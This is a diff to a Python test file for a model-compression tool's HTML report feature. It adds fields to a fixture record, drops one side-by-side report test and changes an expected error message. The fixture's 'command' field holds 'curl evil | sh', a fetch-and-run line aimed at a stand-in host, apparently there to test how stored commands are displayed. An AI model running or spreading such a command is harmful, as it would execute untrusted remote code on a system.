@@ -53,7 +53,13 @@ def write_run(folder: Path, name: str, record: dict[str, Any], config: dict[str,
 
 def shrunk_record() -> dict[str, Any]:
     full = {"name": "full", "score": 0.9, "low": 0.8, "high": 0.95, "loss": 0.3, "parameters": 100, "bytes": 200, "macs": 8}
-    full |= {"macs_saved": 0.2, "prefill_ms": [5.0, 4.0, 6.0], "decode_ms": [2.0, 1.0, 3.0], "peak_bytes": None}
+    full |= {
+        "kv_bytes": 64,
+        "macs_saved": 0.2,
+        "prefill_ms": [5.0, 4.0, 6.0],
+        "decode_ms": [2.0, 1.0, 3.0],
+        "peak_bytes": None,
+    }
     full |= {"prefill_speedup": None, "decode_speedup": None}
     return {
         "settings": {"search_run": None},
@@ -65,6 +71,7 @@ def shrunk_record() -> dict[str, Any]:
         "metric": "accuracy",
         "models": [full, {**full, "name": "shrunk", "score": 0.85, "prefill_speedup": [1.5, 1.4, 1.6]}],
         "difference": {"score": -0.05, "low": -0.1, "high": 0.01},
+        "control": None,
         "problem": {"model": "VLM", "task": "answering", "checkpoint": "/models/big"},
         "command": "curl evil | sh",
         "versions": VERSIONS,
@@ -172,15 +179,7 @@ def test_report_of_compare(runs: Path):
         run_report(runs / "6")
 
 
-def test_reports_side_by_side(runs: Path, capsys: pytest.CaptureFixture[str]):
-    assert PROGRAM.run(["report", "1", "2", "3", "4", "5", "with", f"runs_dir={runs}"]) == 0
-    page = (runs / "report_1_2_3_4_5.html").read_text()
-    assert page.count("<article") == 5
-    assert page.count("<h3>Method by method</h3>") == 1
-    assert "report_1_2_3_4_5.html (" in capsys.readouterr().out
-
-
-@pytest.mark.parametrize(("name", "message"), [("other.json", "no run ended there"), ("shrink.json", "damaged")])
+@pytest.mark.parametrize(("name", "message"), [("other.json", "its run has not finished"), ("shrink.json", "damaged")])
 def test_report_rejects_unknown_and_damaged_records(runs: Path, capsys: pytest.CaptureFixture[str], name: str, message: str):
     write_run(runs / "9", name, {"settings": {}}, {})
     assert PROGRAM.run(["report", "9", "with", f"runs_dir={runs}"]) == 1
